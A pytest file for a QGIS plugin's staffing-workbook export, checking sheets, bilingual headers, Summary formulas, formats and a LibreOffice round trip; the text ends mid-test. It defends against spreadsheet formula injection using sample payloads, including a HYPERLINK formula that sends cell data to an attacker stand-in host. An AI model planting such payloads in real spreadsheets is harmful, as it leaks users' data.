"""servicegrid:exportstaffing: the head-office workbook written from a real project GeoPackage
and read back with openpyxl (sheets, headers in both languages, the Summary's formulas and
cached values, number formats, frozen headers, autofilter, conditional formats, chart,
properties, column widths), hostile text stored as text, the LibreOffice round trip (the
recomputed totals), the algorithm through processing.run and qgis_process, and bad input."""

import os
import shutil
import sqlite3
import subprocess
import zipfile

import openpyxl
import pytest
from conftest import ROOT, build_small_project, extract_ts, qgis_process_run, run_qgis_process
from datasets import (
    add_feedback,
    fresh_copy,
    sample_city_project,
    sql,
    write_assignments,
    write_layer,
)
from osgeo import gdal, ogr
from qgis.core import QgsProcessingException, QgsSettings

from service_grid.algorithms.core import allocation, classify, quality
from service_grid.algorithms.core import staffing_workbook as sw
from service_grid.algorithms.core.errors import CancelledError, InputError

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "#N/A",
    "bell\x07and\x00nul\x1bescape",
    "长" * 40000,
]
STAFF = [("S01", "张三"), ("S02", "李四"), ("S03", "王五"), ("S04", "赵六")]
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


#: Summary columns whose total is the sum of the district rows (with more, per test).
SUMMED = ("grids", "population", "recommended_staff", "assigned_staff", "feedback")


def _ogr_sql(path, *statements):
    ds = gdal.OpenEx(path, gdal.OF_VECTOR | gdal.OF_UPDATE)
    for statement in statements:
        ds.ExecuteSQL(statement)
    ds = None


def _feedback(grid, k, **values):
    row = {
        "grid_id": grid,
        "response_minutes": 20.0,
        "collected_at": "2026-11-{:02d}T09:00:00.000Z".format(1 + k % 20),
        "updated_at": "2026-11-20T08:00:00.000Z",
        "x": 400500.0,
        "y": 3500500.0,
    }
    row.update(values)
    return row


@pytest.fixture(scope="module")
def base_project(plugin, qgis_processing, tmp_path_factory):
    """A 6 × 6 km project: grids of ~12,000 people in two streets, 4 staff, 2 outlets."""
    import processing

    path = build_small_project(
        tmp_path_factory.mktemp("staffing"),
        [(s, n, 15000 if s != "S04" else 5000) for s, n in STAFF],
        [
            {
                "outlet_id": "O1",
                "name": "一号",
                "kind": "branch",
                "capacity": 3,
                "wkt": "POINT(401500 3501500)",
            },
            {
                "outlet_id": "O2",
                "name": "二号",
                "kind": "service_point",
                "capacity": 2,
                "wkt": "POINT(404500 3504500)",
            },
        ],
        {"capacity": ogr.OFTInteger},
    )
    processing.run(
        "servicegrid:classifygrids",
        {"INPUT": path + "|layername=grids", "OUTPUT": "TEMPORARY_OUTPUT", "PROJECT": path},
    )
    grids = [g for (g,) in sql(path, "SELECT grid_id FROM grids ORDER BY grid_id")]
    assert len(grids) >= 5
    # staffing: grid 0 has S01 + S02 (2 recommended), grid 1 S01 alone (2 recommended: one
    # place empty), grid 2 nobody, the others S03 / S04 (1 recommended); outlets on two grids
    rows = [("S01", grids[0]), ("S02", grids[0]), ("S01", grids[1])]
    rows += [("S03" if k % 2 else "S04", g) for k, g in enumerate(grids[3:])]
    write_assignments(path, rows, "2026-11-01T08:00:00Z")
    _ogr_sql(
        path,
        "UPDATE grids SET recommended_staff = 1",
        "UPDATE grids SET recommended_staff = 2 WHERE grid_id IN ('{}', '{}')".format(
            grids[0], grids[1]
        ),
        "UPDATE grids SET outlet_id = 'O1' WHERE grid_id = '{}'".format(grids[0]),
        "UPDATE grids SET outlet_id = 'O2' WHERE grid_id = '{}'".format(grids[3]),
    )
    # feedback: grid 0 slow (p90 100 min, 12 rows: below the standard, +1 staff), grid 3 a
    # mix of categories, a complaint and an unhappy rating
    fb = [_feedback(grids[0], k, response_minutes=100.0) for k in range(12)]
    fb += [
        _feedback(grids[3], k, category=c, rating=r, status=st)
        for k, (c, r, st) in enumerate(
            [
                ("complaint", 2, "open"),
                ("praise", 5, "resolved"),
                ("service_speed", 1, "open"),
                ("sales_inquiry", 4, "resolved"),
            ]
        )
    ]
    add_feedback(path, fb)
    return path


@pytest.fixture
def project(base_project, tmp_path):
    return fresh_copy(base_project, tmp_path)


@pytest.fixture
def hostile_project(project):
    """The project with hostile text in staff and outlet names, and districts whose names are
    a formula, a wildcard pattern and a comparison."""
    grids = [g for (g,) in sql(project, "SELECT grid_id FROM grids ORDER BY grid_id")]
    names = {"S01": HOSTILE[0], "S02": HOSTILE[4], "S03": HOSTILE[8], "S04": HOSTILE[9]}
    statements = [
        "UPDATE staff SET name = '{}' WHERE staff_id = '{}'".format(n.replace("'", "''"), s)
        for s, n in names.items()
        if "\x00" not in n
    ]
    statements.append("UPDATE outlets SET name = '@SUM(A1:A9)' WHERE outlet_id = 'O1'")
    statements.append(
        "UPDATE outlets SET name = '  a<b>&c' || char(13) || char(10) || 'd  ' "
        "WHERE outlet_id = 'O2'"
    )
    statements.append("UPDATE grids SET nest = '=1+1' WHERE grid_id = '{}'".format(grids[0]))
    statements.append("UPDATE grids SET nest = 'S*' WHERE grid_id = '{}'".format(grids[1]))
    statements.append("UPDATE grids SET nest = '<5' WHERE grid_id = '{}'".format(grids[2]))
    _ogr_sql(project, *statements)
    # a name with NUL and control characters: sqlite3 on the attribute table (no triggers)
    con = sqlite3.connect(project)
    con.execute("UPDATE staff SET name = ? WHERE staff_id = 'S03'", (HOSTILE[8],))
    con.commit()
    con.close()
    return project


def _write(project, folder, language="zh", name=None, **kwargs):
    out = os.path.join(str(folder), name or "staffing_{}.xlsx".format(language))
    result = sw.write_workbook(project, out, language, **kwargs)
    return out, result


def _rows(ws):
    return [list(r) for r in ws.iter_rows(values_only=True)]


def _headers(ws):
    return [c.value for c in next(ws.iter_rows(min_row=1, max_row=1))]


def _column(ws, header):
    """Values of the column named ``header`` (data rows)."""
    headers = _headers(ws)
    k = headers.index(header)
    return [row[k] for row in _rows(ws)[1:]]


# ================================================================== core, no QGIS


def test_safe_text_never_starts_a_formula():
    for text in HOSTILE:
        safe = sw.safe_text(text)
        assert not safe.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
        assert not any(ord(ch) < 32 and ch not in "\t\r\n" for ch in safe)
        assert len(safe) <= sw.MAX_CELL_TEXT
    assert sw.safe_text("=1+1") == "'=1+1"
    assert sw.safe_text("\t=1") == "'\t=1"
    assert sw.safe_text("bell\x07and\x00nul") == "bellandnul"
    assert sw.safe_text("张三") == "张三" and sw.safe_text("O-1") == "O-1"
    assert sw.safe_text("长" * 40000).endswith("…")
    assert sw.safe_text("a\ud800b") == "ab"
    assert sw.safe_text(12) == "12"


def test_sheet_titles_and_widths():
    assert sw.sheet_title("a[b]:c*d?e/f\\g") == "a_b__c_d_e_f_g"
    assert len(sw.sheet_title("x" * 40)) == 31
    assert sw.sheet_title("'quoted'") == "quoted" and sw.sheet_title("") == "Sheet"
    assert sw.display_width("abc") == 3 and sw.display_width("人口") == 4
    assert sw.display_width("人口 2") == 6


def test_language_must_be_known(project, tmp_path):
    with pytest.raises(ValueError):
        sw.write_workbook(project, str(tmp_path / "x.xlsx"), "fr")


# ================================================================== the workbook


def test_sheets_and_headers_in_both_languages(project, tmp_path):
    zh, result = _write(project, tmp_path, "zh")
    en, _ = _write(project, tmp_path, "en")
    sheets_zh = ["汇总", "网格", "人员", "人员质量与培训", "网点", "反馈", "客户", "说明"]
    assert result.sheets == sheets_zh
    book_zh, book_en = openpyxl.load_workbook(zh), openpyxl.load_workbook(en)
    assert book_zh.sheetnames == sheets_zh
    assert book_en.sheetnames == [
        "Summary",
        "Grids",
        "Staff",
        "People",
        "Outlets",
        "Feedback",
        "Customers",
        "Notes",
    ]
    assert _headers(book_zh["汇总"])[:7] == [
        "区县(上级区划)",
        "区划名称",
        "上级区划名称",
        "网格数",
        "人口",
        "建议人员数",
        "已分配人员数",
    ]
    assert _headers(book_en["Summary"])[:7] == [
        "District (nest)",
        "Area name",
        "Parent area",
        "Grids",
        "Population",
        "Recommended staff",
        "Staff assigned",
    ]
    grids_zh, grids_en = _headers(book_zh["网格"]), _headers(book_en["Grids"])
    assert len(grids_zh) == len(grids_en) == len(sw._GRID_COLUMNS)
    for key, pair in (
        ("grid_id", ("网格编号", "Grid id")),
        ("density_class", ("密度等级", "Density class")),
        ("workload", ("工作量(服务人口当量)", "Workload (people served)")),
        ("response_p90", ("响应时间90分位(分钟)", "Response p90 (min)")),
        ("flagged", ("需关注", "Flagged")),
    ):
        k = sw._GRID_POS[key]
        assert (grids_zh[k], grids_en[k]) == pair
    assert _headers(book_zh["人员"])[:3] == ["工号", "姓名", "岗位"]
    assert _headers(book_en["Staff"])[-3:] == [
        "Capacity (population)",
        "Utilisation",
        "Spare capacity",
    ]
    assert "投诉" in _headers(book_zh["反馈"]) and "Complaint" in _headers(book_en["Feedback"])
    # labels of the classes in the language of the workbook
    assert set(_column(book_zh["网格"], "密度等级")) <= {"城市核心", "城区", "城郊", "农村"}
    assert set(_column(book_en["Grids"], "Density class")) <= {
        "Urban core",
        "Urban",
        "Suburban",
        "Rural",
    }
    zh_products = {zh for _code, zh, _en in classify.PRODUCTS}
    assert all(set(p.split("、")) <= zh_products for p in _column(book_zh["网格"], "推荐产品"))
    notes = _rows(book_en["Notes"])
    assert notes[0][0] == "Service Grid staffing workbook"
    assert any(r[0] == "Workload and utilisation of a person" for r in notes)


def test_grid_rows_hold_every_figure(project, tmp_path):
    out, result = _write(project, tmp_path, "en")
    ws = openpyxl.load_workbook(out)["Grids"]
    rows = _rows(ws)[1:]
    db = sql(
        project,
        "SELECT grid_id, nest, population, households, area_km2, density, "
        "recommended_staff, demand_index, outlet_id FROM grids ORDER BY grid_id",
    )
    assert result.grids == len(rows) == len(db)
    pos = sw._GRID_POS
    assert [r[pos["grid_id"]] for r in rows] == [d[0] for d in db]
    for row, d in zip(rows, db):
        assert row[pos["nest"]] == d[1] and row[pos["population"]] == d[2]
        assert row[pos["households"]] == d[3]
        assert row[pos["area_km2"]] == pytest.approx(d[4])
        assert row[pos["recommended_staff"]] == d[6]
        assert row[pos["outlet_id"]] == d[8]
    # the workload is allocatestaff's
    load = allocation.workload([d[2] for d in db], [d[7] for d in db])
    assert [r[pos["workload"]] for r in rows] == [float(round(v)) for v in load]
    # staff per grid
    grids = [d[0] for d in db]
    assert rows[0][pos["assigned_staff"]] == 2 and rows[0][pos["staff_gap"]] == 0
    assert rows[0][pos["staff_list"]] == "S01 张三, S02 李四"
    assert rows[1][pos["assigned_staff"]] == 1 and rows[1][pos["staff_gap"]] == -1
    assert rows[2][pos["assigned_staff"]] == 0 and rows[2][pos["staff_list"]] is None
    assert rows[0][pos["outlet_name"]] == "一号" and rows[3][pos["outlet_name"]] == "二号"
    # the quality figures are grid_quality's
    q = quality.grid_quality(project)
    for name in quality.COLUMNS[1:-1]:
        got = [r[pos[name]] for r in rows]
        want = [q[name][q["grid_id"].index(g)] for g in grids]
        assert got == want, name
    assert rows[0][pos["below_standard"]] == 1 and rows[0][pos["flagged"]] == 1
    assert rows[0][pos["staff_change"]] == 1
    assert rows[0][pos["reasons"]] == "response p90 100 min ≥ 1.5 × the 60 min standard (+1 staff)"
    assert result.flagged_grids == 1
    zh = openpyxl.load_workbook(_write(project, tmp_path, "zh")[0])["网格"]
    assert _rows(zh)[1][pos["reasons"]] == "响应时间90分位 100 分钟 ≥ 60 分钟标准的 1.5 倍(+1 人)"
    # a stricter standard flags more grids (RESPONSE_STANDARD reaches the quality columns)
    strict = openpyxl.load_workbook(
        _write(project, tmp_path, "en", name="strict.xlsx", response_standard=15.0)[0]
    )["Grids"]
    assert sum(_column(strict, "Flagged")) >= 1
    assert "15 min standard" in _column(strict, "Reasons")[0]


def test_staff_workload_is_counted_as_allocatestaff_counts_it(project, tmp_path):
    out, result = _write(project, tmp_path, "en")
    book = openpyxl.load_workbook(out)
    grids = {r[0]: r for r in _rows(book["Grids"])[1:]}
    pos = sw._GRID_POS
    db = sql(
        project,
        "SELECT grid_id, population, demand_index, recommended_staff FROM grids ORDER BY grid_id",
    )
    load = dict(
        zip([d[0] for d in db], allocation.workload([d[1] for d in db], [d[2] for d in db]))
    )
    expected = {}
    for gid, row in grids.items():
        people = row[pos["assigned_staff"]]
        places = max(row[pos["recommended_staff"]] or 0, people)
        for entry in (row[pos["staff_list"]] or "").split(", "):
            if entry:
                staff_id = entry.split(" ")[0]
                expected[staff_id] = expected.get(staff_id, 0.0) + load[gid] / places
    staff = {r[0]: r for r in _rows(book["Staff"])[1:]}
    headers = _headers(book["Staff"])
    k_load, k_cap = (
        headers.index("Workload (people served)"),
        headers.index("Capacity (population)"),
    )
    k_util, k_grids = headers.index("Utilisation"), headers.index("Grids")
    assert set(staff) == {s for s, _n in STAFF}
    for staff_id, row in staff.items():
        assert row[k_load] == round(expected.get(staff_id, 0.0)), staff_id
        assert row[k_util] == pytest.approx(expected.get(staff_id, 0.0) / row[k_cap])
    # S01: all of its share of grid 0 (2 places, 2 people) and half of grid 1 (2 places, 1
    # person: the empty place is unserved, not S01's load)
    first, second = sorted(grids)[:2]
    assert staff["S01"][k_load] == round(load[first] / 2 + load[second] / 2)
    assert staff["S01"][k_grids] == 2
    # S04 (capacity 5,000) is over capacity: counted and formatted red
    assert staff["S04"][k_util] > 1 and result.overloaded_staff >= 1
    rules = book["Staff"].conditional_formatting
    util = openpyxl.utils.get_column_letter(k_util + 1)
    found = [(str(cf.sqref), r.operator, r.formula) for cf in rules for r in cf.rules]
    assert ("{0}2:{0}{1}".format(util, len(staff) + 1), "greaterThan", ["1"]) in found


def test_summary_formulas_cached_values_and_totals(project, tmp_path):
    out, result = _write(project, tmp_path, "en")
    formulas = openpyxl.load_workbook(out)["Summary"]
    cached = openpyxl.load_workbook(out, data_only=True)
    values = cached["Summary"]
    grids = _rows(cached["Grids"])[1:]
    pos = sw._GRID_POS
    keys = sw._SUMMARY_KEYS
    districts = sorted({g[pos["nest"]] for g in grids})
    rows = _rows(values)
    assert result.districts == len(districts) == len(rows) - 2
    assert [r[0] for r in rows[1:-1]] == districts and rows[-1][0] == "Total"
    # every district figure is a formula over the Grids sheet; totals over the rows
    for r in range(2, len(districts) + 2):
        for k, key in enumerate(keys[1:], start=2):
            cell = formulas.cell(r, k)
            if key == "outlets_serving":
                assert isinstance(cell.value, int)
                continue
            if key in ("district_name", "parent_name"):  # names beside the codes: text
                assert cell.value is None or cell.data_type == "s"
                continue
            assert cell.data_type == "f" and cell.value.startswith("="), (r, key)
        assert formulas.cell(r, 4).value.startswith("=COUNTIF('Grids'!$B$2:$B$")
        population = openpyxl.utils.get_column_letter(pos["population"] + 1)
        assert formulas.cell(r, 5).value.startswith(
            "=SUMIFS('Grids'!${0}$2:${0}$".format(population)
        )
    total = len(districts) + 2
    assert formulas.cell(total, 4).value == "=SUM(D2:D{})".format(total - 1)
    assert formulas.cell(total, 5).value == "=SUM(E2:E{})".format(total - 1)
    assert formulas.cell(total, keys.index("staff_coverage") + 1).value.startswith(
        "=IF(E{}>0,SUMPRODUCT(".format(total)
    )
    # the cached values are what the formulas compute, from the Grids rows
    col = {key: k for k, key in enumerate(keys)}
    for row in rows[1:-1]:
        mine = [g for g in grids if g[pos["nest"]] == row[0]]
        assert row[col["grids"]] == len(mine)
        assert row[col["population"]] == sum(g[pos["population"]] for g in mine)
        assert row[col["recommended_staff"]] == sum(g[pos["recommended_staff"]] for g in mine)
        assert row[col["assigned_staff"]] == sum(g[pos["assigned_staff"]] for g in mine)
        assert row[col["staff_gap"]] == row[col["assigned_staff"]] - row[col["recommended_staff"]]
        assert row[col["staff_coverage"]] == pytest.approx(
            sum(g[pos["population"]] for g in mine if g[pos["assigned_staff"]])
            / row[col["population"]]
        )
        assert row[col["outlet_coverage"]] == pytest.approx(
            sum(1 for g in mine if g[pos["outlet_id"]]) / len(mine)
        )
        assert row[col["feedback"]] == sum(g[pos["feedback_count"]] for g in mine)
        assert row[col["flagged_grids"]] == sum(g[pos["flagged"]] for g in mine)
    totals = rows[-1]
    for key in SUMMED + ("flagged_grids", "understaffed"):
        assert totals[col[key]] == sum(r[col[key]] for r in rows[1:-1]), key
    assert totals[col["grids"]] == len(grids)
    assert totals[col["outlets_serving"]] == 2
    rated = [
        (g[pos["feedback_count"]], g[pos["avg_rating"]])
        for g in grids
        if g[pos["avg_rating"]] is not None
    ]
    assert totals[col["avg_rating"]] == pytest.approx(
        sum(c * a for c, a in rated) / sum(c for c, _a in rated)
    )
    assert totals[col["understaffed"]] == 2  # grid 1 (one of two places), grid 2 (none)
    # programs that do not calculate read the cached values: OGR (QGIS) opens the Summary
    ds = ogr.Open(out)
    layer = ds.GetLayerByName("Summary")
    read = [[f.GetField(i) for i in range(4)] for f in layer]
    ds = None
    assert read == [r[:4] for r in rows[1:]]
    # the Feedback sheet: per district and category, totals as formulas
    fb = openpyxl.load_workbook(out)["Feedback"]
    fb_rows = _rows(openpyxl.load_workbook(out, data_only=True)["Feedback"])
    head = fb_rows[0]
    assert head[:3] == ["District (nest)", "Feedback", "Open"]
    assert fb_rows[-1][1] == 16 == sum(r[1] for r in fb_rows[1:-1])
    assert fb_rows[-1][head.index("Complaint")] == 1
    assert fb_rows[-1][head.index("Complaints (incl. 1–2 stars)")] == 2
    assert fb.cell(len(fb_rows), 2).value == "=SUM(B2:B{})".format(len(fb_rows) - 1)


def test_formats_views_rules_chart_properties_widths(project, tmp_path):
    import datetime as dt

    made = dt.datetime(2026, 11, 25, 8, 30, tzinfo=dt.timezone.utc)
    out, _ = _write(project, tmp_path, "zh", now=made)
    book = openpyxl.load_workbook(out)
    for name in ("汇总", "网格", "人员", "网点", "反馈"):
        ws = book[name]
        assert ws.freeze_panes in ("B2", "C2"), name
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), name
        assert ws.cell(1, 1).font.b, name  # bold header
        assert ws.print_title_rows == "1:1" or ws.print_title_rows == "$1:$1"
    grids = book["网格"]
    n = grids.max_row
    assert grids.auto_filter.ref == "A1:{}{}".format(
        openpyxl.utils.get_column_letter(len(sw._GRID_COLUMNS)), n
    )
    pos = sw._GRID_POS

    def fmt(ws, key, row=2):
        return ws.cell(row, pos[key] + 1).number_format

    assert fmt(grids, "population") == "#,##0"
    assert fmt(grids, "complaint_share") == "0.0%"
    assert fmt(grids, "demand_index") == "#,##0.0"
    assert fmt(grids, "area_km2") == "0.00"
    assert fmt(grids, "flagged") == '"是";"是";"否"'
    assert fmt(grids, "staff_gap") == "+#,##0;-#,##0;0"
    summary = book["汇总"]
    assert summary.cell(2, sw._SUMMARY_KEYS.index("population") + 1).number_format == "#,##0"
    assert summary.cell(2, sw._SUMMARY_KEYS.index("staff_coverage") + 1).number_format == "0.0%"
    assert summary.cell(summary.max_row, 1).value == "合计"
    assert summary.cell(summary.max_row, 1).font.b
    # widths: wide enough for the values, CJK counted double, text capped
    width = {
        k: grids.column_dimensions[openpyxl.utils.get_column_letter(k + 1)].width
        for k in range(len(sw._GRID_COLUMNS))
    }
    ids = [c.value for c in grids["A"][1:]]
    assert width[pos["grid_id"]] >= max(len(i) for i in ids)
    products = [c.value for c in grids[openpyxl.utils.get_column_letter(pos["products"] + 1)][1:]]
    assert width[pos["products"]] >= min(50, max(sw.display_width(p) for p in products))
    assert width[pos["products"]] <= 50
    assert all(w >= 6 for w in width.values())
    # conditional formats: flagged grids, below the standard, under-staffed
    rules = [
        (str(cf.sqref), r.type, r.formula) for cf in grids.conditional_formatting for r in cf.rules
    ]
    flagged = openpyxl.utils.get_column_letter(pos["flagged"] + 1)
    assert ("A2:A{}".format(n), "expression", ["${}2=1".format(flagged)]) in rules
    below = openpyxl.utils.get_column_letter(pos["below_standard"] + 1)
    assert any(f == ["${}2=1".format(below)] for _s, _t, f in rules)
    assert any("ISNUMBER" in f[0] for _s, _t, f in rules)
    assert any(r.operator == "lessThan" for cf in summary.conditional_formatting for r in cf.rules)
    # the chart: staff per district, recommended against assigned
    charts = summary._charts
    assert len(charts) == 1
    chart = charts[0]
    assert chart.tagname == "barChart" and chart.type == "col"
    assert len(chart.series) == 2
    refs = [s.val.numRef.f for s in chart.series]
    last = summary.max_row - 1
    assert refs == ["'汇总'!$F$2:$F${}".format(last), "'汇总'!$G$2:$G${}".format(last)]
    assert chart.series[0].cat.numRef.f == "'汇总'!$A$2:$A${}".format(last) or chart.series[
        0
    ].cat.strRef.f == "'汇总'!$A$2:$A${}".format(last)
    # document properties
    props = book.properties
    assert props.title == "服务网格人员配置表" and props.creator == "Service Grid"
    assert props.subject and "人员配置" in props.keywords
    assert props.created == dt.datetime(2026, 11, 25, 8, 30)
    assert props.description == "city.gpkg"
    notes = {r[0]: r[1] for r in _rows(book["说明"])[1:]}
    assert notes["生成时间(UTC)"] == dt.datetime(2026, 11, 25, 8, 30)
    assert notes["项目文件"] == "city.gpkg" and notes["响应标准(分钟)"] == 60


def test_write_only_mode_streams_the_rows(project, tmp_path, monkeypatch):
    """The workbook is made in openpyxl's write-only mode (rows stream to disk)."""
    from openpyxl import Workbook

    made = []
    original = Workbook.__init__

    def spy(self, *args, **kwargs):
        made.append(kwargs.get("write_only", args[0] if args else False))
        original(self, *args, **kwargs)

    monkeypatch.setattr(Workbook, "__init__", spy)
    _write(project, tmp_path, "en")
    assert made == [True]


def test_hostile_text_is_stored_as_text(hostile_project, tmp_path):
    out, _ = _write(hostile_project, tmp_path, "en")
    book = openpyxl.load_workbook(out)
    formula_cells, formula_rows = [], []
    texts = []
    for ws in book:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formula_cells.append((ws.title, cell.column))
                    formula_rows.append((ws.title, cell.column, cell.row))
                elif isinstance(cell.value, str):
                    texts.append(cell)
    # formulas only in the Summary (every figure column), the Feedback's share column and
    # the totals row of the Customers
    assert {t for t, _c in formula_cells} == {"Summary", "Feedback", "Customers"}
    assert all(r == book["Customers"].max_row for t, _c, r in formula_rows if t == "Customers")
    fb_share = _headers(book["Feedback"]).index("Share over the standard") + 1
    assert all(c != 1 for t, c in formula_cells if t == "Summary")
    last = book["Feedback"].max_row
    assert all(c == fb_share or r == last for t, c, r in formula_rows if t == "Feedback")
    for cell in texts:
        assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell.value
        assert not any(ord(ch) < 32 and ch not in "\t\r\n" for ch in cell.value)
        assert len(cell.value) <= 32767
    staff = {r[0]: r for r in _rows(book["Staff"])[1:]}
    assert staff["S01"][1] == "'" + HOSTILE[0]
    assert staff["S02"][1] == "'" + HOSTILE[4]
    assert staff["S03"][1] == "bellandnulescape"
    assert len(staff["S04"][1]) == 32767 and staff["S04"][1].endswith("…")
    outlets = {r[0]: r for r in _rows(book["Outlets"])[1:]}
    assert outlets["O1"][1] == "'@SUM(A1:A9)"
    assert outlets["O2"][1] == "  a<b>&c\r\nd  "  # XML characters and spaces kept
    # the districts that look like a formula, a pattern, a comparison: text, and the summary
    # counts each exactly (no wildcard or operator meaning)
    summary = _rows(openpyxl.load_workbook(out, data_only=True)["Summary"])
    districts = {r[0]: r for r in summary[1:-1]}
    assert {"'=1+1", "S*", "<5"} <= set(districts)
    g = sw._SUMMARY_KEYS.index("grids")
    assert districts["S*"][g] == 1 and districts["<5"][g] == 1 and districts["'=1+1"][g] == 1
    listed = book["Grids"].cell(2, sw._GRID_POS["staff_list"] + 1)
    assert listed.data_type == "s" and listed.value.startswith("S01 =HYPERLINK")
    # the raw XML: hostile text is an inline string, never a formula element
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = z.read(name).decode("utf-8")
                assert "<f>HYPERLINK" not in xml and "<f>1+1" not in xml
                assert "<f>SUM(A1:A9)" not in xml


#: LibreOffice settings of the tests' private profile: recalculate Excel files on loading
#: (LibreOffice's default is to show the values stored with the formulas).
RECALC_ALWAYS = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry"
 xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode"
 oor:op="fuse"><value>0</value></prop></item>
</oor:items>
"""


def _libreoffice(path, target, outdir, profile):
    """Convert with LibreOffice headless (a private profile that recalculates on loading)."""
    user = profile / "user"
    if not user.exists():
        user.mkdir(parents=True)
        (user / "registrymodifications.xcu").write_text(RECALC_ALWAYS, encoding="utf-8")
    outdir.mkdir(exist_ok=True)
    run = subprocess.run(
        [
            SOFFICE,
            "-env:UserInstallation=" + profile.as_uri(),
            "--headless",
            "--norestore",
            "--convert-to",
            target,
            "--outdir",
            str(outdir),
            str(path),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert run.returncode == 0, run.stdout + run.stderr
    return outdir / (os.path.splitext(os.path.basename(str(path)))[0] + "." + target.split(":")[0])


def _edit_population(path, edited, row, population):
    """A copy of the workbook with one grid's population changed in the Grids sheet only (the
    Summary keeps its stored values), as if edited in a spreadsheet."""
    import re

    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(edited, "w", zipfile.ZIP_DEFLATED) as z:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet2.xml":
                column = openpyxl.utils.get_column_letter(sw._GRID_POS["population"] + 1)
                data, count = re.subn(
                    r'(<c r="{}{}"[^>]*><v>)[0-9.]+(</v>)'.format(column, row).encode(),
                    r"\g<1>{}\g<2>".format(population).encode(),
                    data,
                )
                assert count == 1
            z.writestr(item, data)


def test_libreoffice_recomputes_the_totals(hostile_project, tmp_path):
    assert SOFFICE is not None, "LibreOffice (soffice) is missing: run make setup"
    out, _ = _write(hostile_project, tmp_path, "zh")
    profile = tmp_path / "lo-profile"
    again = _libreoffice(out, "xlsx", tmp_path / "converted", profile)
    ours = openpyxl.load_workbook(out, data_only=True)
    lo = openpyxl.load_workbook(str(again), data_only=True)
    assert lo.sheetnames == ours.sheetnames
    summary = _rows(lo["汇总"])
    rows, totals = summary[1:-1], summary[-1]
    keys = sw._SUMMARY_KEYS
    # LibreOffice computed every formula: the same as the values we stored with them …
    for mine, theirs in zip(_rows(ours["汇总"]), summary):
        for a, b in zip(mine, theirs):
            if isinstance(a, float) or isinstance(b, float):
                assert b == pytest.approx(a), (mine, theirs)
            else:
                assert (a if a != "" else None) == (b if b != "" else None), (mine, theirs)
    # … and the totals are the sums of the rows, the rows the sums of the grids
    for key in SUMMED + ("understaffed", "below_grids", "flagged_grids"):
        k = keys.index(key)
        assert totals[k] == sum(r[k] for r in rows), key
    grids = _rows(lo["网格"])[1:]
    assert totals[keys.index("population")] == sum(g[sw._GRID_POS["population"]] for g in grids)
    assert totals[keys.index("grids")] == len(grids)
    # an edit in the Grids sheet reaches the district row and the totals (live formulas)
    first = grids[0]
    edited = tmp_path / "edited.xlsx"
    _edit_population(out, str(edited), 2, first[sw._GRID_POS["population"]] + 1_000_000)
    changed = openpyxl.load_workbook(
        str(_libreoffice(edited, "xlsx", tmp_path / "edited", profile)), data_only=True
    )
    after = _rows(changed["汇总"])
    k = keys.index("population")
    district = [r[0] for r in after].index(first[sw._GRID_POS["nest"]])
    assert after[district][k] == summary[district][k] + 1_000_000
    assert after[-1][k] == totals[k] + 1_000_000 == sum(r[k] for r in after[1:-1])
    # the hostile cells were not evaluated: still the text we wrote
    staff = {r[0]: r[1] for r in _rows(lo["人员"])[1:]}
    assert staff["S01"] == "'" + HOSTILE[0] and staff["S02"] == "'" + HOSTILE[4]
    outlets = {r[0]: r[1] for r in _rows(lo["网点"])[1:]}
    assert outlets["O1"] == "'@SUM(A1:A9)"
    assert {r[0] for r in rows} >= {"'=1+1", "S*", "<5"}
    # the Summary as CSV (every sheet in a file, formatted values, UTF-8)
    _libreoffice(
        out,
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
        tmp_path / "csv",
        profile,
    )
    csv_path = tmp_path / "csv" / (os.path.splitext(os.path.basename(out))[0] + "-汇总.csv")
    import csv

    with open(csv_path, encoding="utf-8") as handle:
        table = list(csv.reader(handle))
    assert table[0][0] == "区县(上级区划)" and table[-1][0] == "合计"
    p = sw._SUMMARY_KEYS.index("population")
    population = [int(r[p].replace(",", "")) for r in table[1:-1]]
    assert int(table[-1][p].replace(",", "")) == sum(population)


# ================================================================== safety and bad input


def test_bad_input_is_refused_and_nothing_written(project, tmp_path):
    not_project = tmp_path / "plain.gpkg"
    write_layer(
        str(not_project), "x", ogr.wkbPoint, {"a": ogr.OFTString}, [{"a": "1", "wkt": "POINT(0 0)"}]
    )
    out = tmp_path / "a.xlsx"
    with pytest.raises(InputError, match="not a Service Grid project"):
        sw.write_workbook(str(not_project), str(out), "en")
    with pytest.raises(InputError, match="not a Service Grid project"):
        sw.write_workbook(str(tmp_path / "missing.gpkg"), str(out), "en")
    with pytest.raises(InputError, match="does not exist"):
        sw.write_workbook(project, str(tmp_path / "no" / "such" / "a.xlsx"), "en")
    (tmp_path / "folder.xlsx").mkdir()
    with pytest.raises(InputError, match="is a folder"):
        sw.write_workbook(project, str(tmp_path / "folder.xlsx"), "en")
    assert not out.exists()
    assert not [f for f in os.listdir(str(tmp_path)) if f.startswith(".~sg-")]
    # without .xlsx the extension is added
    result = sw.write_workbook(project, str(tmp_path / "named"), "en")
    assert result.path.endswith("named.xlsx") and os.path.exists(result.path)


def test_open_workbook_cancel_and_failure_leave_the_old_file(project, tmp_path):
    out, _ = _write(project, tmp_path, "en", name="book.xlsx")
    before = open(out, "rb").read()
    # open in LibreOffice (its lock file beside it) or Excel (~$book.xlsx): refused
    for lock in (tmp_path / ".~lock.book.xlsx#", tmp_path / "~$book.xlsx"):
        lock.write_text("user", encoding="utf-8")
        with pytest.raises(InputError, match="open in a spreadsheet program"):
            sw.write_workbook(project, out, "zh")
